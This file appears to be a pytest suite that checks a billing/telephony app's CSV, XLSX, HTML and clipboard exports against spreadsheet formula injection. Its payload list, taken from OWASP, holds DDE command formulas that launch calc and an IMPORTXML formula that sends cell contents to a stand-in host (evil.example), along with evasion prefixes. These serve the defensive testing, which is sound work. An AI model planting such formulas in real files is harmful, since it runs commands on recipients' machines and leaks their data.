"""Formula injection and XML-forbidden characters, tried as an attacker would, through
every export: the Summary CSV and XLSX, the CDR report, the audit log CSV and XLSX, the
invoice XLSX and its printed HTML, the clipboard TSV and HTML, and the generic table copy.

The expectation is computed here by an oracle written independently of
``export_safety``: the payload without the characters XML 1.0 forbids (and the other
control characters), with a single quote in front.  The files are read back with
openpyxl, with python-calamine (a second, independent reader), as raw XML, and with
csv.reader.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
import zipfile
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cxdesk.models import Cdr
from cxdesk.services import audit_log, cdr_report, clipboard, export, invoice_html, invoices, summary
from cxdesk.services.audit_log import AuditQuery
from cxdesk.services.table import Column, Table
from cxdesk.services.uow import unit_of_work

# -- the attack -------------------------------------------------------------------------
#: the OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection)
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
]
#: what an attacker puts in front so that a naive check ("starts with =") misses it:
#: control characters a spreadsheet or an XML writer drops, a space, a zero-width space
#: (kept, but skipped when looking for the formula: the quote still goes in front)
PREFIXES = ["", "\x01", "\x00", " ", "\x1b", "\u200b"]
#: more of the same where the value does not pass through a database: DEL and C1
#: controls, a BOM, an ideographic space, a line feed, a non-character, invalid bytes as
#: Python holds them after surrogateescape
MORE_PREFIXES = ["\x7f", "\x85", "\ufeff", "\u3000", "\n", "\ufffe", "\udc80", "\x01\u200b \x1f"]
PAYLOADS = [p + x for p in PREFIXES for x in OWASP]
ALL_PAYLOADS = PAYLOADS + [p + x for p in MORE_PREFIXES for x in OWASP] + ["\uff1d1+1", "\uff20SUM(1)"]
FORMULA_CHARS = "=+-@\uff1d\uff0b\uff0d\uff20"


def xml_char(ch: str) -> bool:
    """XML 1.0's Char production, minus the discouraged DEL and C1 controls."""
    cp = ord(ch)
    return (cp in (0x9, 0xA, 0xD) or 0x20 <= cp <= 0x7E or 0xA0 <= cp <= 0xD7FF
            or 0xE000 <= cp <= 0xFFFD or 0x10000 <= cp <= 0x10FFFF)


def clean(text: str) -> str:
    return "".join(ch for ch in text if xml_char(ch))


def unsafe(text: str) -> bool:
    """Would a spreadsheet take this cell text for a formula?  (No leading quote, and
    a tab/CR first, or a formula character after blanks and invisible characters.)"""
    if text.startswith("'"):
        return False
    if text[:1] in ("\t", "\r"):
        return True
    body = text.lstrip("".join(ch for ch in set(text) if ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf")))
    return body != "" and body[0] in FORMULA_CHARS


def defused(payload: str) -> str:
    """What every export must show for a payload: cleaned, with a single quote in front."""
    return "'" + clean(payload)


def test_the_oracle_flags_every_payload() -> None:
    # the check below means something only if the raw payloads are caught by it
    assert all(unsafe(clean(p)) for p in ALL_PAYLOADS)
    assert not any(unsafe(defused(p)) for p in ALL_PAYLOADS)


# -- readers ------------------------------------------------------------------------------
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def check_texts(texts: list[str], expected: list[str], numbers_allowed: bool = False) -> None:
    """No text is a formula or holds an XML-forbidden character; every expected text is there."""
    for text in texts:
        assert all(xml_char(ch) for ch in text), f"forbidden character in {text!r}"
        if not (numbers_allowed and NUMBER.fullmatch(text)):
            assert not unsafe(text), f"live formula: {text!r}"
    missing = [e for e in expected if e not in texts]
    assert not missing, f"not exported as expected: {missing[:3]!r}"


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def check_csv(path: Path, expected: list[str], numbers_allowed: bool = False) -> list[list[str]]:
    rows = read_csv(path)
    check_texts([f for row in rows for f in row], expected, numbers_allowed)
    return rows


SUBTOTAL = re.compile(r"=SUBTOTAL\(109,([A-Z]+)\d+:\1\d+\)")


def check_xlsx(path: Path, expected: list[str], totals_row: bool = False):
    """openpyxl: no formula cell (but the totals row's SUBTOTALs when ``totals_row``), no
    text that could become one; python-calamine and the raw XML agree."""
    wb = load_workbook(path)
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert totals_row and cell.row == ws.max_row and SUBTOTAL.fullmatch(cell.value), cell.value
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    check_texts(texts, expected)
    formulas = sum(len(re.findall(rb"<f[ >]", zipfile.ZipFile(path).read(name)))
                   for name in zipfile.ZipFile(path).namelist() if name.startswith("xl/worksheets/"))
    allowed = sum(1 for ws in wb.worksheets for c in ws[ws.max_row] if c.data_type == "f") if totals_row else 0
    assert formulas == allowed
    calamine = pytest.importorskip("python_calamine")
    book = calamine.CalamineWorkbook.from_path(str(path))
    seen = [v for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
            for v in row if isinstance(v, str) and v != ""]
    check_texts(seen, expected)
    return wb


# -- the Summary: CSV and XLSX -----------------------------------------------------------------
def summary_rows(labels: list[str]) -> list[summary.SummaryRow]:
    start = dt.datetime(2026, 1, 5, tzinfo=dt.timezone.utc)
    return [summary.SummaryRow("weekly", label, start + dt.timedelta(weeks=i), start + dt.timedelta(weeks=i + 1),
                               10, 5, 600, 600, Decimal("1.50"), Decimal("2.25"))  # a loss: profit -0.75
            for i, label in enumerate(labels)]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_summary_export_defuses_labels(admin, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"summary{suffix}"
    summary.export_summary(admin, summary_rows(ALL_PAYLOADS), path, currency="EUR")
    expected = [defused(p) for p in ALL_PAYLOADS]
    if suffix == ".csv":
        rows = check_csv(path, expected, numbers_allowed=True)
        assert [r[1] for r in rows[1:]] == expected  # in place (the Week label column), one per row
        assert {Decimal(r[10]) for r in rows[1:]} == {Decimal("-0.75")}  # a number stays a number: no quote
    else:
        check_xlsx(path, expected, totals_row=True)
        ws = load_workbook(path).active
        # the Week label column, below the two header rows
        assert [ws.cell(r, 2).value for r in range(3, 3 + len(expected))] == expected
        assert ws.cell(3, 11).value == -0.75 and ws.cell(3, 11).data_type == "n"


def test_summary_xlsx_defuses_the_customer_name_in_the_title(admin, tmp_path: Path) -> None:
    for n, payload in enumerate(ALL_PAYLOADS):
        path = tmp_path / f"s{n}.xlsx"
        summary.export_summary(admin, summary_rows(["Week 2 2026"]), path, currency="EUR",
                               title=f"{payload}: weekly summary (UTC)")
        wb = check_xlsx(path, [defused(f"{payload}: weekly summary (UTC)")], totals_row=True)
        assert all(xml_char(ch) for ch in wb.active.title + (wb.properties.title or ""))


@pytest.mark.parametrize("fast", [True, False], ids=["fast", "public"])
def test_table_headers_groups_text_and_labels_are_defused(tmp_path: Path, monkeypatch, fast: bool) -> None:
    from cxdesk.services import xlsx_writer

    monkeypatch.setattr(xlsx_writer, "FAST_PATH", fast)
    columns = [Column("d", ALL_PAYLOADS[1], ALL_PAYLOADS[2], kind="date"), Column("n", "N", ALL_PAYLOADS[3], "int"),
               Column("t", ALL_PAYLOADS[4], ALL_PAYLOADS[5])]
    data = Table.from_rows(columns, [[p, -7, q] for p, q in zip(ALL_PAYLOADS, reversed(ALL_PAYLOADS))])
    expected = [defused(p) for p in ALL_PAYLOADS]
    export.write_xlsx(data, tmp_path / "t.xlsx")
    check_xlsx(tmp_path / "t.xlsx", expected, totals_row=True)
    export.write_csv(data, tmp_path / "t.csv", headers="group")
    rows = check_csv(tmp_path / "t.csv", expected, numbers_allowed=True)
    assert rows[0] == [defused(ALL_PAYLOADS[2]), defused(ALL_PAYLOADS[3]), defused(ALL_PAYLOADS[5])]
    assert rows[1] == [defused(ALL_PAYLOADS[1]), "N", defused(ALL_PAYLOADS[4])]
    assert {r[1] for r in rows[2:]} == {"-7"}


# -- the CDR report ------------------------------------------------------------------------------
def test_cdr_report_defuses_caller_and_destination_text(sqlite_db, admin, make_customer, tmp_path: Path) -> None:
    customer = make_customer(sqlite_db)
    start = dt.datetime(2026, 1, 5, tzinfo=dt.timezone.utc)
    text_columns = ("source_cli", "dest_number", "customer_card_dest_code", "customer_card_dest_name",
                    "customer_card_currency", "sip_reason", "release_reason")
    rows = [{c: payload for c in text_columns} | {
        "callid": f"{payload}#{i}", "dt": start + dt.timedelta(minutes=i), "customer_id": customer,
        "duration": 60, "customer_duration": 60, "customer_charge": Decimal("0.5"), "customer_card_rate": Decimal("0.5"),
        "provider_charge": Decimal("0.25"), "provider_id": None, "pdd_out": 0, "ring_duration": 0, "sip_code": 200}
        for i, payload in enumerate(PAYLOADS)]
    with unit_of_work(sqlite_db, admin) as uow:
        uow.bulk_insert(Cdr, rows, "attack CDRs")
    path = tmp_path / "cdrs.csv"
    assert cdr_report.write_cdr_report(sqlite_db, admin, customer, start, start + dt.timedelta(days=1), path) == len(PAYLOADS)
    got = check_csv(path, [defused(p) for p in PAYLOADS])
    header = got[0]
    for i, (line, payload) in enumerate(zip(got[1:], PAYLOADS)):
        record = dict(zip(header, line))
        assert [record[c] for c in text_columns] == [defused(payload)] * len(text_columns)
        assert record["callid"] == defused(f"{payload}#{i}")
        assert (record["customer_charge"], record["duration"]) == ("0.500000", "60")  # numbers as they were


def test_cdr_report_leaves_plain_text_and_amounts_alone(sqlite_db, admin, make_customer, tmp_path: Path) -> None:
    customer = make_customer(sqlite_db)
    start = dt.datetime(2026, 1, 5, tzinfo=dt.timezone.utc)
    row = {"callid": "c1", "dt": start, "customer_id": customer, "source_cli": "441234567890",
           "dest_number": "+33123456789", "customer_card_dest_code": "44", "customer_card_dest_name": "United Kingdom",
           "customer_card_currency": "EUR", "sip_reason": "OK", "release_reason": "", "duration": 0,
           "customer_duration": 0, "customer_charge": Decimal("-1.5"), "customer_card_rate": Decimal(0),
           "provider_charge": Decimal(0), "provider_id": 7, "pdd_out": 0, "ring_duration": 0, "sip_code": 486}
    with unit_of_work(sqlite_db, admin) as uow:
        uow.bulk_insert(Cdr, [row], "one CDR")
    path = tmp_path / "cdrs.csv"
    cdr_report.write_cdr_report(sqlite_db, admin, customer, start, start + dt.timedelta(days=1), path)
    (line,) = read_csv(path)[1:]
    assert line == ["2026-01-05 00:00:00", "c1", str(customer), "441234567890", "'+33123456789", "0", "0",
                    "-1.500000", "0.000000", "44", "United Kingdom", "EUR", "7", "0.000000", "0", "0", "486", "OK", ""]


# -- the audit log export -------------------------------------------------------------------------
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_audit_export_defuses_comments_and_messages(sqlite_db, staff, make_customer, tmp_path: Path,
                                                    suffix: str) -> None:
    customer = make_customer(sqlite_db, "Acme")
    for payload in PAYLOADS:
        with unit_of_work(sqlite_db, staff, payload) as uow:
            uow.record("SEND", "invoices", "1", payload, customer_id=customer)
    path = tmp_path / f"audit{suffix}"
    with sqlite_db.read_session() as s:
        writer = audit_log.export_xlsx if suffix == ".xlsx" else audit_log.export_csv
        writer(s, AuditQuery(values={"action": ("SEND",)}), path)
    # the comment is stored stripped of surrounding whitespace; the message as given
    comments = [defused(p.strip()) for p in reversed(PAYLOADS)]  # newest first
    messages = [defused(p) for p in reversed(PAYLOADS)]
    if suffix == ".csv":
        rows = check_csv(path, comments + messages, numbers_allowed=True)
        assert [r[8] for r in rows[1:]] == comments and [r[7] for r in rows[1:]] == messages
    else:
        check_xlsx(path, comments + messages)
        ws = load_workbook(path).active
        assert [ws.cell(r, 9).value for r in range(2, ws.max_row + 1)] == comments


# -- the invoice: XLSX and the printed HTML -------------------------------------------------------
def attack_invoice(descriptions: list[str], customer_name: str) -> invoices.InvoiceRecord:
    start = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)
    one = Decimal("1.000000")
    lines = tuple(invoices.LineRecord(i + 1, d, start, start + dt.timedelta(days=1), 1, Decimal("1"), one, one,
                                      Decimal("0.2"), Decimal("1.2")) for i, d in enumerate(descriptions))
    n = Decimal(len(lines))
    return invoices.InvoiceRecord(
        1, 7, 3, customer_name, "January 2026", "monthly", start, start + dt.timedelta(days=31),
        dt.date(2026, 2, 1), dt.date(2026, 3, 3), "EUR", Decimal("20"), n, n * Decimal("0.2"), n * Decimal("1.2"),
        "Unpaid", 1, "admin", start, lines)


def test_invoice_xlsx_defuses_company_address_customer_and_lines(accountant, tmp_path: Path) -> None:
    for n, payload in enumerate(ALL_PAYLOADS):
        address = f"{payload}\n{ALL_PAYLOADS[-1 - n]}\nLondon"
        invoice = attack_invoice([payload, ALL_PAYLOADS[-1 - n]], customer_name=payload)
        path = tmp_path / f"i{n}.xlsx"
        invoices.export_invoice_xlsx(accountant, invoice, invoices.Company(payload, address), path)
        expected = [defused(payload), defused(ALL_PAYLOADS[-1 - n])] + [
            defused(line) for line in address.splitlines() if unsafe(clean(line))]
        ws = check_xlsx(path, expected).active
        assert ws["A1"].value == defused(payload)
        cells = {row[0].value: row[1].value for row in ws.iter_rows(max_col=2)}
        assert cells["Customer"] == defused(payload)


def test_invoice_html_has_no_forbidden_character_and_still_escapes() -> None:
    for payload in ALL_PAYLOADS:
        name = f"<b>{payload}</b> & Co"
        html = invoice_html.invoice_html(attack_invoice([payload], name), invoices.Company(name, f"1 {payload}\nTown"))
        assert all(xml_char(ch) for ch in html), repr(payload)
        escaped = clean(payload).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
        escaped = escaped.replace("'", "&#x27;")
        assert html.count(f"&lt;b&gt;{escaped}&lt;/b&gt; &amp; Co") == 2  # issuer and customer
        assert f"<td>{escaped}</td>" in html  # a PDF is no spreadsheet: no quote


# -- the clipboard: TSV and HTML --------------------------------------------------------------------
class Cells(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.cells: list[str] = []
        self._open = False

    def handle_starttag(self, tag, attrs) -> None:
        if tag in ("td", "th"):
            self._open = True
            self.cells.append("")

    def handle_endtag(self, tag) -> None:
        if tag in ("td", "th"):
            self._open = False

    def handle_data(self, data) -> None:
        if self._open:
            self.cells[-1] += data


@pytest.mark.parametrize("headers", ["none", "headers", "group"])
def test_clipboard_tsv_and_html_are_defused(headers: str) -> None:
    columns = [Column("d", ALL_PAYLOADS[6], ALL_PAYLOADS[7], kind="date"), Column("n", "N", ALL_PAYLOADS[7], "money"),
               Column("t", ALL_PAYLOADS[8], ALL_PAYLOADS[9])]
    data = Table.from_rows(columns, [[p, Decimal("-2.5"), q] for p, q in zip(ALL_PAYLOADS, reversed(ALL_PAYLOADS))])
    tsv, html = clipboard.copy_text(data, [(0, 0, data.row_count - 1, 2)], headers=headers)  # type: ignore[arg-type]
    expected = [defused(p) for p in ALL_PAYLOADS]
    fields = [f for row in csv.reader(io.StringIO(tsv, newline=""), delimiter="\t") for f in row]
    check_texts(fields, expected, numbers_allowed=True)
    assert "-2.50" in fields  # numbers are never quoted
    parser = Cells()
    parser.feed(html)
    check_texts(parser.cells, expected, numbers_allowed=True)
    assert all(xml_char(ch) for ch in html)
    if headers == "group":
        assert fields[:3] == [defused(ALL_PAYLOADS[7]), "", defused(ALL_PAYLOADS[9])]


# -- the generic table copy (Ctrl+C in every list) ----------------------------------------------------
def test_generic_table_copy_cell_is_defused() -> None:
    from cxdesk.ui.kit.tables import _cell

    for payload in ALL_PAYLOADS:
        (field,) = next(csv.reader(io.StringIO(_cell(payload), newline=""), delimiter="\t"))
        assert field == defused(payload), repr(payload)
    assert _cell("Acme") == "Acme" and _cell('say "hi"') == '"say ""hi"""'
    assert _cell("-12.50") == "'-12.50"  # shown text that looks numeric is text: shown literally


# -- the function itself ---------------------------------------------------------------------------------
def test_safe_text_decisions() -> None:
    from cxdesk.services.export_safety import safe_text, safe_texts, strip_forbidden

    assert safe_text("+441234567890") == "'+441234567890"  # text that looks numeric is still text
    assert safe_text("-5") == "'-5"
    assert safe_text("\u200b=1+1") == "'\u200b=1+1"  # zero-width kept, skipped when looking for "="
    assert safe_text("\x01=HYPERLINK(1)") == "'=HYPERLINK(1)"  # stripped first, then quoted
    assert safe_text("\tindented") == "'\tindented" and safe_text("\rreturn") == "'\rreturn"
    assert safe_text("a = b") == "a = b" and safe_text("Acme - North") == "Acme - North"
    assert safe_text("'=1+1") == "'=1+1"  # already quoted: not twice
    assert safe_text("line\nnext\ttab") == "line\nnext\ttab"  # tab, LF, CR inside are fine
    assert safe_text("\ud83d\ude00 ok\udcff") == "\U0001f600 ok"  # a pair joined, a lone half dropped
    assert safe_text("x\ufffe\uffffy\x7f\x9f") == "xy"
    for value in (None, 5, Decimal("-2.5"), dt.date(2026, 1, 1), b"=1+1"):
        assert safe_text(value) is value  # not text: unchanged
    assert strip_forbidden("=\x00a\tb") == "=a\tb"  # stripping alone adds no quote (the PDF)
    column = ["a", "b c", "1"]
    assert safe_texts(column) is column and safe_texts(["a", " -1", 3]) == ["a", "' -1", 3]


SKIPPABLE = st.sampled_from([" ", "\t", "\n", "\r", "\x00", "\x01", "\x1b", "\x1f", "\x7f", "\x85", "\xa0",
                             "\u200b", "\u200e", "\u2060", "\ufeff", "\u3000", "\ud800", "\udfff", "\ufffe"])
ANY_CHAR = st.characters(exclude_categories=())  # every code point, lone surrogates included
ATTACK = st.builds(lambda a, b, c: a + b + c, st.text(SKIPPABLE, max_size=5), st.sampled_from(FORMULA_CHARS + "'"),
                   st.text(ANY_CHAR, max_size=20))


@settings(max_examples=600, deadline=None, database=None)
@given(st.one_of(st.text(ANY_CHAR), ATTACK))
@example("\x01=HYPERLINK(1)")
@example("\udc80\t")
def test_safe_text_property(text: str) -> None:
    from cxdesk.services.export_safety import safe_text, safe_texts

    out = safe_text(text)
    assert all(xml_char(ch) for ch in out)
    assert not unsafe(out)
    kept = "".join(ch for ch in text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "surrogatepass")
                   if xml_char(ch))
    assert out == ("'" + kept if unsafe(kept) else kept)  # nothing else changed
    assert safe_text(out) == out
    assert safe_texts([text, "plain", text]) == [out, "plain", out]


def test_the_cdr_importer_takes_back_the_quote_its_own_report_added():
    from cxdesk.services.cdr_import import _text

    parse = _text(60)
    assert parse("'+441234567890") == "+441234567890"  # as the CDR report wrote it
    assert parse("'=1+1") == "=1+1"  # stored as the caller sent it; neutralised again on export
    assert parse("'hello") == "'hello"  # a quote that is part of the value stays


def test_the_table_copy_keeps_real_numbers_numbers_and_quotes_look_alikes():
    from decimal import Decimal

    from cxdesk.ui.kit.tables import _cell

    assert _cell("-12.50", Decimal("-12.50")) == "-12.50"
    assert _cell("-1,234.50", Decimal("-1234.50")) == "-1,234.50"
    assert _cell("-12.50", "-12.50") == "'-12.50"  # text that looks like a number
    assert _cell("+441234567890", None) == "'+441234567890"
    assert _cell("=1+1", 2) == "'=1+1"  # a numeric model value never lets a formula through
